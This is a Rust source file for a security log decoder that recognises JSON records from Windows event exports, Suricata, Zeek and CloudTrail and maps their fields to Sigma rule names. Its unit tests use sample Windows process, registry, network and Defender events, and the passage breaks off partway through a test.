//! JSON lines: one object per line, flavour recognised per record.
//!
//! | flavour | recognised by | logsource | names |
//! |---|---|---|---|
//! | Windows, nested (`evtx` JSON, `Event.System`/`Event.EventData`) | root key `Event` | windows, service from channel | Sigma names (`EventID`, `Provider_Name`, `CommandLine`) + full paths |
//! | Windows, flat (NXLog / OTRF exports) | `EventID` with `Channel` or `SourceName` | windows, service from channel | as exported, plus `Provider_Name` (from `SourceName`) and, for classic PowerShell and Application, `Data` (the message) |
//! | Windows, Winlogbeat (`winlog.channel`, `winlog.event_data…`) | the same, by the names below | windows, service from channel | `winlog.event_data.X` / `winlog.user_data.X` → `X`, `winlog.event_id` → `EventID`, `winlog.channel` → `Channel`, `winlog.provider_name` → `Provider_Name`, `winlog.computer_name` → `Computer` + full paths; Sysmon fields Elastic's module moved to ECS names get their Sysmon names back ([`crate::ecs_sysmon`]) |
//! | Windows, Log Analytics (`SecurityEvent`, `WindowsEvent`, `Event`) | as flat, or `EventID` with `EventLog` | as flat | as flat, plus the `EventData` text column (XML or JSON) read into its fields ([`crate::log_analytics`]); channel from `EventLog`, provider from `EventSourceName`, `Provider` or `Source` |
//! | Windows, EvtxECmd (KAPE) | `EventId` and `Payload` with `Channel` | as flat | as flat, plus the `Payload` text column (the event's XML as JSON) read into its fields ([`crate::evtxecmd`]); `EventId` as `EventID` |
//! | Log Analytics `Syslog` row holding a Sysmon for Linux `<Event>` | `SyslogMessage` | linux, Sysmon category | the event's own, decoded from the XML |
//! | Suricata EVE | `event_type` with `flow_id`, `src_ip` or `timestamp` | suricata, service = event type; `http` events category `proxy` | dotted paths (`alert.signature`); `http` events also the proxy names ([`crate::web_proxy`]) |
//! | Zeek JSON | `ts` with `uid`, `_path`, `fuid` or `id.orig_h` | zeek, service = `_path` or file name; `http` category `proxy` | Zeek names (`id.orig_h`); `http` also the proxy names ([`crate::web_proxy`]) |
//! | AWS CloudTrail | `eventSource`, `eventName`, `awsRegion` | aws/cloudtrail | CloudTrail paths |
//! | anything else | — | none | dotted paths |
//!
//! Event time comes from the flavour's time field; records without one keep time 0 and
//! the caller may stamp ingest time.

use std::borrow::Cow;

use watchfloor_event::{Event, FieldId, LogSource, Value};

use crate::antivirus::AntivirusNames;
use crate::auditd::AuditdDecoder;
use crate::ecs_sysmon::EcsSysmon;
use crate::evtxecmd;
use crate::json_walk::{self, Naming, PathIds};
use crate::log_analytics;
use crate::security_stand_in::StandInNames;
use crate::time::{from_epoch_f64, parse_timestamp};
use crate::web_json::WebJsonNames;
use crate::web_proxy::{self, ProxyNames, Sensor};
use crate::windows_xml::XmlEvents;
use crate::{DecodeContext, DecodeErrorKind, LineDecoder, windows};

/// Which flavour a JSON record was recognised as.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum JsonFlavour {
    WindowsNested,
    WindowsFlat,
    SuricataEve,
    Zeek,
    CloudTrail,
    /// A web server's request as JSON (ECS or nginx/Apache JSON formats).
    WebAccess,
    Generic,
}

/// Decoder of JSON lines of every flavour.
#[derive(Debug, Default)]
pub struct JsonDecoder {
    ids: PathIds,
    path: String,
    known: Option<Known>,
    zeek_hint: Option<String>,
    last_flavour: Option<JsonFlavour>,
    /// Sysmon names of Security events standing in for Sysmon's, resolved once.
    stand_in: Option<StandInNames>,
    /// Sigma's `antivirus` names of Defender's detections, resolved once.
    antivirus: Option<AntivirusNames>,
    /// Sigma's `proxy` names of HTTP requests seen on the wire, resolved once.
    proxy: Option<ProxyNames>,
    /// Sigma's `webserver` names of web requests logged as JSON, resolved once.
    web: Option<WebJsonNames>,
    /// Sysmon names of Elastic's ECS fields, resolved once.
    ecs: Option<EcsSysmon>,
    /// Audit records relayed in Log Analytics `Syslog` rows (auditd, auoms).
    auditd: AuditdDecoder,
}

/// Field ids consulted for recognition, resolved once per decoder.
#[derive(Debug, Clone, Copy)]
struct Known {
    channel: FieldId,
    event_id: FieldId,
    provider_name: FieldId,
    source_name: FieldId,
    message: FieldId,
    /// Winlogbeat's rendered message.
    message_beats: FieldId,
    data: FieldId,
    system_time: FieldId,
    time_created: FieldId,
    at_timestamp: FieldId,
    utc_time: FieldId,
    event_time: FieldId,
    event_type: FieldId,
    flow_id: FieldId,
    src_ip: FieldId,
    timestamp: FieldId,
    zeek_path: FieldId,
    ts: FieldId,
    uid: FieldId,
    fuid: FieldId,
    orig_h: FieldId,
    event_source: FieldId,
    event_name: FieldId,
    aws_region: FieldId,
    event_time_aws: FieldId,
    time: FieldId,
    time_iso8601: FieldId,
    time_generated: FieldId,
    date: FieldId,
    /// Log Analytics: the event data column, the provider columns, the syslog message.
    event_data: FieldId,
    provider: FieldId,
    event_source_name: FieldId,
    syslog_message: FieldId,
    /// Log Analytics' older `Event` table: the channel as `EventLog`, provider `Source`.
    event_log: FieldId,
    source: FieldId,
    /// EvtxECmd: the event id as `EventId`, the event data as `Payload`.
    event_id_ecmd: FieldId,
    payload: FieldId,
}

impl Known {
    fn resolve(ctx: &mut DecodeContext) -> Self {
        Known {
            channel: ctx.id("Channel"),
            event_id: ctx.id("EventID"),
            provider_name: ctx.id("Provider_Name"),
            source_name: ctx.id("SourceName"),
            message: ctx.id("Message"),
            message_beats: ctx.id("message"),
            data: ctx.id("Data"),
            system_time: ctx.id("TimeCreated_SystemTime"),
            time_created: ctx.id("TimeCreated"),
            at_timestamp: ctx.id("@timestamp"),
            utc_time: ctx.id("UtcTime"),
            event_time: ctx.id("EventTime"),
            event_type: ctx.id("event_type"),
            flow_id: ctx.id("flow_id"),
            src_ip: ctx.id("src_ip"),
            timestamp: ctx.id("timestamp"),
            zeek_path: ctx.id("_path"),
            ts: ctx.id("ts"),
            uid: ctx.id("uid"),
            fuid: ctx.id("fuid"),
            orig_h: ctx.id("id.orig_h"),
            event_source: ctx.id("eventSource"),
            event_name: ctx.id("eventName"),
            aws_region: ctx.id("awsRegion"),
            event_time_aws: ctx.id("eventTime"),
            time: ctx.id("time"),
            time_iso8601: ctx.id("time_iso8601"),
            time_generated: ctx.id("TimeGenerated"),
            date: ctx.id("date"),
            event_data: ctx.id("EventData"),
            provider: ctx.id("Provider"),
            event_source_name: ctx.id("EventSourceName"),
            syslog_message: ctx.id("SyslogMessage"),
            event_log: ctx.id("EventLog"),
            source: ctx.id("Source"),
            event_id_ecmd: ctx.id("EventId"),
            payload: ctx.id("Payload"),
        }
    }
}

impl JsonDecoder {
    /// A decoder for a source whose name suggests a Zeek log (`dns` for `dns.log`), used
    /// when records lack `_path`.
    pub fn new(zeek_hint: Option<&str>) -> Self {
        JsonDecoder {
            zeek_hint: zeek_hint.map(str::to_string),
            ..Self::default()
        }
    }

    /// Sets the Zeek log name for the records that follow (see [`JsonDecoder::new`]).
    pub fn set_zeek_hint(&mut self, hint: Option<String>) {
        self.zeek_hint = hint;
    }

    /// The flavour of the last record decoded.
    pub fn last_flavour(&self) -> Option<JsonFlavour> {
        self.last_flavour
    }

    /// Decodes one JSON object (a line, or a rendered EVTX record) into `ev`.
    pub fn decode_object(
        &mut self,
        ctx: &mut DecodeContext,
        json: &[u8],
        ev: &mut Event,
    ) -> Result<JsonFlavour, DecodeErrorKind> {
        self.decode_object_as(ctx, json, ev, None)
    }

    /// As [`JsonDecoder::decode_object`], with the flavour given instead of recognised
    /// when `flavour` is `Some` (a CSV export whose header says it holds Windows events).
    pub(crate) fn decode_object_as(
        &mut self,
        ctx: &mut DecodeContext,
        json: &[u8],
        ev: &mut Event,
        flavour: Option<JsonFlavour>,
    ) -> Result<JsonFlavour, DecodeErrorKind> {
        let given = flavour;
        let known = *self.known.get_or_insert_with(|| Known::resolve(ctx));
        if self.ecs.is_none() {
            self.ecs = Some(EcsSysmon::new(ctx));
        }
        if self.stand_in.is_none() {
            self.stand_in = Some(StandInNames::new(ctx));
        }
        if self.antivirus.is_none() {
            self.antivirus = Some(AntivirusNames::new(ctx));
        }
        if self.proxy.is_none() {
            self.proxy = Some(ProxyNames::new(ctx));
        }
        if self.web.is_none() {
            self.web = Some(WebJsonNames::new(ctx));
        }
        let nested = starts_with_event_key(json);
        let naming = if nested {
            Naming::WindowsXml
        } else {
            Naming::Path
        };
        json_walk::flatten(ctx, &mut self.ids, &mut self.path, naming, json, ev).map_err(|e| {
            DecodeErrorKind::Json {
                column: e.column(),
                message: e.to_string(),
            }
        })?;
        let flavour = if nested {
            JsonFlavour::WindowsNested
        } else {
            given.unwrap_or_else(|| recognise(&known, self.web.as_ref(), ev))
        };
        match flavour {
            JsonFlavour::WindowsFlat => {
                if ev.get(known.channel).is_none() {
                    ev.alias(known.event_log, known.channel);
                }
                if ev.get(known.event_id).is_none() {
                    ev.alias(known.event_id_ecmd, known.event_id);
                }
                expand_event_data(ctx, &known, ev);
            }
            JsonFlavour::Generic => {
                // Sysmon for Linux in a Log Analytics `Syslog` row: the event is the XML.
                let xml = ev
                    .get(known.syslog_message)
                    .and_then(|v| v.as_str())
                    .and_then(log_analytics::sysmon_xml)
                    .map(str::to_owned);
                if let Some(xml) = xml {
                    let json = sysmon_xml_json(&xml)?;
                    ev.clear();
                    return self.decode_object(ctx, &json, ev);
                }
                // An audit record in a `Syslog` row (auditd through syslog, or auoms):
                // the event is the record, on the row's machine. A message that only
                // looks like one leaves the row as it is.
                let audit = ev
                    .get(known.syslog_message)
                    .and_then(|v| v.as_str())
                    .filter(|m| crate::auditd::is_audit_record(m))
                    .map(str::to_owned);
                if let Some(message) = audit {
                    let mut record = Event::new();
                    if let Ok(true) = self.auditd.decode_line(ctx, &message, &mut record) {
                        let computer_id = ctx.id("Computer");
                        let computer = ev
                            .get(computer_id)
                            .and_then(|v| v.as_str())
                            .map(str::to_owned);
                        record.source = ev.source.clone();
                        record.tenant = ev.tenant;
                        record.ingest_time = ev.ingest_time;
                        *ev = record;
                        if let Some(computer) = computer {
                            ctx.put_str(ev, "Computer", &computer);
                        }
                        self.last_flavour = Some(JsonFlavour::Generic);
                        return Ok(JsonFlavour::Generic);
                    }
                }
            }
            _ => {}
        }
        self.finish(&known, flavour, ev);
        self.last_flavour = Some(flavour);
        Ok(flavour)
    }

    /// The `proxy` category for a sensor's `http` events, with the proxy names added.
    fn http_as_proxy(
        &self,
        service: Option<&str>,
        sensor: Sensor,
        ev: &mut Event,
    ) -> Option<Cow<'static, str>> {
        if service != Some("http") {
            return None;
        }
        if let Some(proxy) = &self.proxy {
            proxy.apply(sensor, ev);
        }
        Some(Cow::Borrowed(web_proxy::CATEGORY))
    }

    fn finish(&self, k: &Known, flavour: JsonFlavour, ev: &mut Event) {
        let (logsource, time_fields): (LogSource, &[FieldId]) = match flavour {
            JsonFlavour::WindowsNested | JsonFlavour::WindowsFlat => {
                let channel = ev.get(k.channel).and_then(|v| v.as_str());
                let provider = ev
                    .get(k.provider_name)
                    .or_else(|| ev.get(k.source_name))
                    .or_else(|| ev.get(k.provider))
                    .or_else(|| ev.get(k.event_source_name))
                    .or_else(|| ev.get(k.source))
                    .and_then(|v| v.as_str());
                let event_id = ev.get(k.event_id).and_then(|v| v.as_i64());
                let mut ls = windows::logsource(channel, provider, event_id);
                if flavour == JsonFlavour::WindowsFlat {
                    name_as_rendered(k, ev);
                    if ls.service() == Some("sysmon")
                        && let (Some(ecs), Some(id)) = (&self.ecs, event_id)
                    {
                        ecs.apply(id, ev);
                    }
                }
                if ls.category() == Some("antivirus")
                    && let Some(names) = &self.antivirus
                {
                    names.apply(ev);
                }
                if ls.service() == Some("security")
                    && let (Some(names), Some(id)) = (&self.stand_in, event_id)
                    && let Some(category) = names.apply(id, ev)
                {
                    ls.category = Some(Cow::Borrowed(category));
                }
                if ls.service() == Some("security") && event_id == Some(4688) {
                    // Elastic's security module may move 4688's fields to ECS names
                    // too: the same names as a Sysmon process creation.
                    if flavour == JsonFlavour::WindowsFlat
                        && let Some(ecs) = &self.ecs
                    {
                        ecs.apply(1, ev);
                    }
                }
                (
                    ls,
                    &[
                        k.system_time,
                        k.time_created,
                        k.at_timestamp,
                        k.utc_time,
                        k.time_generated,
                        k.event_time,
                    ],
                )
            }
            JsonFlavour::SuricataEve => {
                let service = ev
                    .get(k.event_type)
                    .and_then(|v| v.as_str())
                    .map(suricata_service);
                let category = self.http_as_proxy(service.as_deref(), Sensor::Suricata, ev);
                (
                    LogSource {
                        product: Some(Cow::Borrowed("suricata")),
                        category,
                        service,
                    },
                    &[k.timestamp],
                )
            }
            JsonFlavour::Zeek => {
                let service = ev
                    .get(k.zeek_path)
                    .and_then(|v| v.as_str())
                    .or(self.zeek_hint.as_deref())
                    .map(crate::zeek_tsv::service_name);
                let category = self.http_as_proxy(service.as_deref(), Sensor::Zeek, ev);
                (
                    LogSource {
                        product: Some(Cow::Borrowed("zeek")),
                        category,
                        service,
                    },
                    &[k.ts],
                )
            }
            JsonFlavour::WebAccess => {
                if let Some(web) = &self.web {
                    web.apply(ev);
                }
                (
                    LogSource::new(None, Some("webserver"), None),
                    &[
                        k.at_timestamp,
                        k.timestamp,
                        k.time,
                        k.time_iso8601,
                        k.ts,
                        k.date,
                    ],
                )
            }
            JsonFlavour::CloudTrail => (
                LogSource::new(Some("aws"), None, Some("cloudtrail")),
                // Exports through a log shipper may carry only its `@timestamp`.
                &[k.event_time_aws, k.at_timestamp],
            ),
            JsonFlavour::Generic => (
                LogSource::default(),
                &[
                    k.at_timestamp,
                    k.timestamp,
                    k.time,
                    k.ts,
                    k.time_generated,
                    k.event_time,
                    k.date,
                ],
            ),
        };
        ev.logsource = logsource;
        if let Some(t) = time_fields
            .iter()
            .find_map(|&id| ev.get(id).and_then(value_time))
        {
            ev.time = t;
        }
    }
}

impl LineDecoder for JsonDecoder {
    fn decode_line(
        &mut self,
        ctx: &mut DecodeContext,
        line: &str,
        ev: &mut Event,
    ) -> Result<bool, DecodeErrorKind> {
        if line.trim().is_empty() {
            return Ok(false);
        }
        self.decode_object(ctx, line.as_bytes(), ev)?;
        Ok(true)
    }

    fn decode_bytes(
        &mut self,
        ctx: &mut DecodeContext,
        line: &[u8],
        ev: &mut Event,
    ) -> Option<Result<bool, DecodeErrorKind>> {
        if line.trim_ascii().is_empty() {
            return Some(Ok(false));
        }
        Some(self.decode_object(ctx, line, ev).map(|_| true))
    }
}

fn value_time(v: Value<'_>) -> Option<watchfloor_event::Timestamp> {
    match v {
        Value::Str(s) => parse_timestamp(s),
        Value::Float(f) => from_epoch_f64(f),
        Value::Int(i) => from_epoch_f64(i as f64),
        _ => None,
    }
}

fn starts_with_event_key(json: &[u8]) -> bool {
    let rest = json.trim_ascii_start();
    let Some(rest) = rest.strip_prefix(b"{") else {
        return false;
    };
    let rest = rest.trim_ascii_start();
    rest.starts_with(b"\"Event\"") && {
        let after = rest[7..].trim_ascii_start();
        after.starts_with(b":") && after[1..].trim_ascii_start().starts_with(b"{")
    }
}

fn recognise(k: &Known, web: Option<&WebJsonNames>, ev: &Event) -> JsonFlavour {
    let has = |id| ev.get(id).is_some();
    let windows_id = has(k.event_id) || (has(k.event_id_ecmd) && has(k.payload));
    if windows_id && (has(k.channel) || has(k.source_name) || has(k.event_log)) {
        JsonFlavour::WindowsFlat
    } else if has(k.event_type) && (has(k.flow_id) || has(k.src_ip) || has(k.timestamp)) {
        JsonFlavour::SuricataEve
    } else if has(k.ts) && (has(k.uid) || has(k.zeek_path) || has(k.fuid) || has(k.orig_h)) {
        JsonFlavour::Zeek
    } else if has(k.event_source) && has(k.event_name) && has(k.aws_region) {
        JsonFlavour::CloudTrail
    } else if web.is_some_and(|w| w.recognise(ev)) {
        JsonFlavour::WebAccess
    } else {
        JsonFlavour::Generic
    }
}

/// A Log Analytics row's `EventData` column (XML or JSON text), or an EvtxECmd row's
/// `Payload`, read into the fields an EVTX rendering has; names the row already has are
/// kept.
fn expand_event_data(ctx: &mut DecodeContext, k: &Known, ev: &mut Event) {
    let text_of = |id| {
        ev.get(id)
            .and_then(|v| v.as_str())
            .filter(|t| t.len() > 1)
            .map(str::to_owned)
    };
    let fields = if let Some(text) = text_of(k.event_data) {
        log_analytics::event_data_fields(&text)
    } else if let Some(text) = text_of(k.payload) {
        evtxecmd::payload_fields(&text)
    } else {
        None
    };
    for (name, value) in fields.unwrap_or_default() {
        let id = ctx.id(&name);
        if ev.get(id).is_none() {
            ev.push_str(id, id, &value);
        }
    }
}

/// A Sysmon for Linux `<Event>` as the JSON an EVTX record renders to, repaired first
/// ([`log_analytics::repair_sysmon_xml`]); an event cut short gets `truncated: true`.
pub(crate) fn sysmon_xml_json(xml: &str) -> Result<Vec<u8>, DecodeErrorKind> {
    let Some((xml, cut)) = log_analytics::repair_sysmon_xml(xml) else {
        return Err(DecodeErrorKind::syntax(
            "sysmon-for-linux XML",
            "the message was cut short before the event's data".to_string(),
        ));
    };
    let mut events = XmlEvents::new(xml.as_bytes(), xml.len().max(1));
    match events.next_event() {
        Some(Ok(mut json)) => {
            if cut {
                mark_truncated(&mut json);
            }
            Ok(json)
        }
        Some(Err(message)) => Err(DecodeErrorKind::syntax("sysmon-for-linux XML", message)),
        None => Err(DecodeErrorKind::syntax(
            "sysmon-for-linux XML",
            "no <Event> element".to_string(),
        )),
    }
}

/// Adds `"truncated": true` to the `Event` object of rendered JSON (`{"Event":{…}}`).
fn mark_truncated(json: &mut Vec<u8>) {
    if json.ends_with(b"}}") {
        json.truncate(json.len() - 2);
        json.extend_from_slice(b",\"truncated\":true}}");
    }
}

/// Gives a flat Windows export (NXLog) the names an EVTX rendering has and rules test:
/// the provider (`SourceName`) as `Provider_Name`; and, on the channels whose events
/// carry unnamed `Data` items (classic PowerShell, Application, Exchange management),
/// the rendered message that holds them (NXLog's `Message`, Winlogbeat's `message`) as
/// `Data`.
fn name_as_rendered(k: &Known, ev: &mut Event) {
    if ev.get(k.provider_name).is_none() {
        // NXLog's `SourceName`; Log Analytics' `Provider`, `EventSourceName` or `Source`.
        let _ = ev.alias(k.source_name, k.provider_name)
            || ev.alias(k.provider, k.provider_name)
            || ev.alias(k.event_source_name, k.provider_name)
            || ev.alias(k.source, k.provider_name);
    }
    const UNNAMED_DATA_CHANNELS: &[&str] =
        &["Windows PowerShell", "Application", "MSExchange Management"];
    let unnamed = ev.get(k.channel).and_then(|v| v.as_str()).is_some_and(|c| {
        UNNAMED_DATA_CHANNELS
            .iter()
            .any(|u| u.eq_ignore_ascii_case(c))
    });
    if unnamed && ev.get(k.data).is_none() && !ev.alias(k.message, k.data) {
        ev.alias(k.message_beats, k.data);
    }
}

fn suricata_service(event_type: &str) -> Cow<'static, str> {
    const KNOWN: &[&str] = &[
        "alert", "anomaly", "dhcp", "dns", "drop", "fileinfo", "flow", "ftp", "http", "http2",
        "ikev2", "krb5", "mqtt", "netflow", "nfs", "pgsql", "quic", "rdp", "rfb", "sip", "smb",
        "smtp", "snmp", "ssh", "stats", "tftp", "tls",
    ];
    match KNOWN.iter().find(|k| **k == event_type) {
        Some(k) => Cow::Borrowed(k),
        None => Cow::Owned(event_type.to_string()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::ctx;
    use crate::time::format_rfc3339;

    fn decode(line: &str) -> (DecodeContext, Event, JsonFlavour) {
        crate::test_support::decode_json(Some("conn"), line)
    }

    #[test]
    fn flat_windows_sysmon() {
        let (mut ctx, ev, fl) = decode(
            r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","@timestamp":"2020-06-10T02:50:56.537Z","CommandLine":"whoami"}"#,
        );
        assert_eq!(fl, JsonFlavour::WindowsFlat);
        assert_eq!(ev.logsource.to_string(), "windows/process_creation/sysmon");
        assert_eq!(format_rfc3339(ev.time), "2020-06-10T02:50:56.537Z");
        assert_eq!(ev.get(ctx.id("CommandLine")), Some(Value::Str("whoami")));
    }

    #[test]
    fn flat_windows_provider_is_named_as_rules_name_it() {
        // NXLog's `SourceName` is the provider: the audit-log-cleared rules test
        // `Provider_Name: Microsoft-Windows-Eventlog`.
        let (mut ctx, ev, _) = decode(
            r#"{"EventID":1102,"SourceName":"Microsoft-Windows-Eventlog","Channel":"Security","@timestamp":"2020-10-27T08:28:54.351Z"}"#,
        );
        assert_eq!(
            ev.get(ctx.id("Provider_Name")),
            Some(Value::Str("Microsoft-Windows-Eventlog"))
        );
        assert_eq!(
            ev.get(ctx.id("SourceName")),
            Some(Value::Str("Microsoft-Windows-Eventlog"))
        );
        // An export that has both keeps its own `Provider_Name`.
        let (mut ctx, ev, _) = decode(
            r#"{"EventID":7045,"Provider_Name":"Service Control Manager","SourceName":"other","Channel":"System"}"#,
        );
        let names: Vec<_> = ev
            .fields()
            .filter(|(entry, _)| entry.name == ctx.id("Provider_Name"))
            .collect();
        assert_eq!(names.len(), 1);
        assert_eq!(
            ev.get(ctx.id("Provider_Name")),
            Some(Value::Str("Service Control Manager"))
        );
    }

    #[test]
    fn classic_powershell_message_is_its_data() {
        let (mut ctx, ev, _) = decode(
            r#"{"EventID":400,"SourceName":"PowerShell","Channel":"Windows PowerShell","Message":"Engine state is changed from None to Available.\r\n\tHostName=ConsoleHost\r\n\tEngineVersion=2.0"}"#,
        );
        assert_eq!(
            ev.logsource.to_string(),
            "windows/ps_classic_start/powershell-classic"
        );
        let data = ev
            .get(ctx.id("Data"))
            .and_then(|v| v.as_str().map(str::to_string));
        assert!(data.is_some_and(|d| d.contains("EngineVersion=2.0")));
        // Winlogbeat's message likewise.
        let (mut ctx, ev, _) = decode(
            r#"{"message":"Engine state is changed.\r\n\tHostApplication=powershell -version 2","winlog":{"channel":"Windows PowerShell","event_id":"400","provider_name":"PowerShell","event_data":{"param1":"Available"}}}"#,
        );
        let data = ev
            .get(ctx.id("Data"))
            .and_then(|v| v.as_str().map(str::to_string));
        assert!(data.is_some_and(|d| d.contains("-version 2")));
        // Other channels' messages are not data.
        let (mut ctx, ev, _) = decode(
            r#"{"EventID":4624,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","Message":"An account was logged on."}"#,
        );
        assert!(ev.get(ctx.id("Data")).is_none());
    }

    #[test]
    fn winlogbeat_events_take_their_windows_names() {
        let (mut ctx, ev, fl) = decode(
            r#"{"@timestamp":"2023-05-01T10:00:00.000Z","host":{"name":"ws01"},"winlog":{"channel":"Security","event_id":"4688","provider_name":"Microsoft-Windows-Security-Auditing","computer_name":"WS01.corp.local","record_id":77,"process":{"pid":4},"event_data":{"NewProcessName":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all"}}}"#,
        );
        assert_eq!(fl, JsonFlavour::WindowsFlat);
        assert_eq!(
            ev.logsource.to_string(),
            "windows/process_creation/security"
        );
        assert_eq!(format_rfc3339(ev.time), "2023-05-01T10:00:00Z");
        assert_eq!(
            ev.get(ctx.id("EventID")).and_then(|v| v.as_i64()),
            Some(4688)
        );
        assert_eq!(
            ev.get(ctx.id("CommandLine")),
            Some(Value::Str("whoami /all"))
        );
        assert_eq!(
            ev.get(ctx.id("Computer")),
            Some(Value::Str("WS01.corp.local"))
        );
        assert_eq!(
            ev.get(ctx.id("Provider_Name")),
            Some(Value::Str("Microsoft-Windows-Security-Auditing"))
        );
        assert_eq!(ev.get(ctx.id("EventRecordID")), Some(Value::Int(77)));
        // The 4688 aliases apply as to any Security process creation.
        assert_eq!(
            ev.get(ctx.id("Image")),
            Some(Value::Str("C:\\Windows\\System32\\whoami.exe"))
        );
        // The shipped paths stay as they are too; other documents' paths are untouched.
        assert!(ev.get(ctx.id("winlog.event_data.CommandLine")).is_some());
        assert_eq!(ev.get(ctx.id("host.name")), Some(Value::Str("ws01")));
        let (mut ctx, ev, _) = decode(
            r#"{"winlog":{"channel":"Microsoft-Windows-WMI-Activity/Operational","event_id":5861,"user_data":{"Operation Name":"x","PossibleCause":"Permanent"}}}"#,
        );
        assert_eq!(
            ev.get(ctx.id("PossibleCause")),
            Some(Value::Str("Permanent"))
        );
        assert_eq!(ev.get(ctx.id("OperationName")), Some(Value::Str("x")));
    }

    /// Decodes `line` and checks its logsource and the text of named fields.
    fn assert_names(line: &str, logsource: &str, expected: &[(&str, &str)]) {
        let (mut ctx, ev, _) = decode(line);
        assert_eq!(ev.logsource.to_string(), logsource, "{line}");
        for (name, want) in expected {
            let got = ev.get(ctx.id(name)).map(|v| v.to_string());
            assert_eq!(got.as_deref(), Some(*want), "{name} in {line}");
        }
    }

    #[test]
    fn security_stand_ins_take_sysmon_names() {
        // A process created as SYSTEM by SYSTEM: 4688 gives no target account.
        assert_names(
            r#"{"EventID":4688,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","SubjectUserSid":"S-1-5-18","SubjectUserName":"WS01$","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7","TargetUserSid":"S-1-0-0","TargetUserName":"-","TargetDomainName":"-","TargetLogonId":"0x0","NewProcessName":"C:\\Windows\\System32\\cmd.exe","ProcessId":"0x1f4","ParentProcessName":"C:\\Windows\\System32\\services.exe","MandatoryLabel":"S-1-16-16384","CommandLine":"cmd /c whoami"}"#,
            "windows/process_creation/security",
            &[
                ("Image", "C:\\Windows\\System32\\cmd.exe"),
                ("ParentImage", "C:\\Windows\\System32\\services.exe"),
                ("ParentProcessId", "0x1f4"),
                ("User", "NT AUTHORITY\\SYSTEM"),
                ("LogonId", "0x3e7"),
                ("IntegrityLevel", "System"),
            ],
        );
        // A process started under another account (runas): the target is its user.
        assert_names(
            r#"{"EventID":4688,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","SubjectUserSid":"S-1-5-21-1-2-3-1001","SubjectUserName":"bob","SubjectDomainName":"CORP","SubjectLogonId":"0x1a2b","TargetUserSid":"S-1-5-21-1-2-3-500","TargetUserName":"admin","TargetDomainName":"CORP","TargetLogonId":"0x9f9f","NewProcessName":"C:\\x.exe","MandatoryLabel":"S-1-16-12288"}"#,
            "windows/process_creation/security",
            &[
                ("User", "CORP\\admin"),
                ("LogonId", "0x9f9f"),
                ("IntegrityLevel", "High"),
                ("SubjectUserName", "bob"),
            ],
        );
        // A connection the filtering platform permitted.
        assert_names(
            r#"{"EventID":5156,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","ProcessId":"3548","Application":"\\device\\harddiskvolume2\\windows\\system32\\regsvr32.exe","Direction":"%%14593","SourceAddress":"172.18.39.5","SourcePort":"50123","DestAddress":"10.10.10.5","DestPort":"8444","Protocol":"6"}"#,
            "windows/network_connection/security",
            &[
                ("Image", "C:\\windows\\system32\\regsvr32.exe"),
                (
                    "Application",
                    "\\device\\harddiskvolume2\\windows\\system32\\regsvr32.exe",
                ),
                ("Initiated", "true"),
                ("SourceIp", "172.18.39.5"),
                ("DestinationIp", "10.10.10.5"),
                ("DestinationPort", "8444"),
                ("Protocol", "6"),
            ],
        );
        // A registry value written (NXLog names the audit outcome `EventType`).
        assert_names(
            r#"{"EventID":4657,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","EventType":"AUDIT_SUCCESS","SubjectUserSid":"S-1-5-21-1-2-3-1001","SubjectUserName":"bob","SubjectDomainName":"CORP","ObjectName":"\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\EventLog","ObjectValueName":"Start","OperationType":"%%1905","NewValueType":"%%1876","NewValue":"4","ProcessName":"C:\\Windows\\System32\\reg.exe"}"#,
            "windows/registry_set/security",
            &[
                (
                    "TargetObject",
                    "HKLM\\SYSTEM\\CurrentControlSet\\Services\\EventLog\\Start",
                ),
                ("Details", "DWORD (0x00000004)"),
                ("Image", "C:\\Windows\\System32\\reg.exe"),
                ("User", "CORP\\bob"),
                ("EventType", "AUDIT_SUCCESS"),
            ],
        );
        assert_names(
            r#"{"EventID":4657,"Channel":"Security","ObjectName":"\\REGISTRY\\USER\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run","ObjectValueName":"updater","OperationType":"%%1906","OldValueType":"%%1873","OldValue":"C:\\u.exe","NewValueType":"-","NewValue":"-"}"#,
            "windows/registry_delete/security",
            &[
                (
                    "TargetObject",
                    "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater",
                ),
                ("EventType", "DeleteValue"),
            ],
        );
        // Defender's detections are Sigma's `antivirus` events.
        assert_names(
            r#"{"EventID":1116,"SourceName":"Microsoft-Windows-Windows Defender","Channel":"Microsoft-Windows-Windows Defender/Operational","Threat Name":"HackTool:Win32/Mimikatz","Path":"file:_C:\\Users\\bob\\m.exe"}"#,
            "windows/antivirus/windefend",
            &[
                ("Signature", "HackTool:Win32/Mimikatz"),
                ("Filename", "file:_C:\\Users\\bob\\m.exe"),
            ],
        );
        // Names an export already has are kept.
        assert_names(
            r#"{"EventID":5156,"Channel":"Security","Application":"System","Direction":"Inbound","Image":"kept"}"#,
            "windows/network_connection/security",
            &[("Image", "kept"), ("Initiated", "false")],
        );
    }

    #[test]
    fn log_analytics_rows_give_their_event_data() {
        // `SecurityEvent`: the data as XML text, the provider as `EventSourceName`.
        assert_names(
            r#"{"TimeGenerated":"2022-05-13T08:54:05.21Z","Computer":"WORKSTATION5","EventSourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","EventData":"<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\r\n  <Data Name=\"Application\">\\device\\harddiskvolume2\\tomcat9.exe</Data>\r\n  <Data Name=\"Direction\">%%14592</Data>\r\n  <Data Name=\"DestPort\">8080</Data>\r\n</EventData>","EventID":5156,"Type":"SecurityEvent"}"#,
            "windows/network_connection/security",
            &[
                ("Application", "\\device\\harddiskvolume2\\tomcat9.exe"),
                ("Image", "C:\\tomcat9.exe"),
                ("Initiated", "false"),
                ("DestinationPort", "8080"),
                ("Provider_Name", "Microsoft-Windows-Security-Auditing"),
            ],
        );
        // `WindowsEvent`: the data as JSON text.
        assert_names(
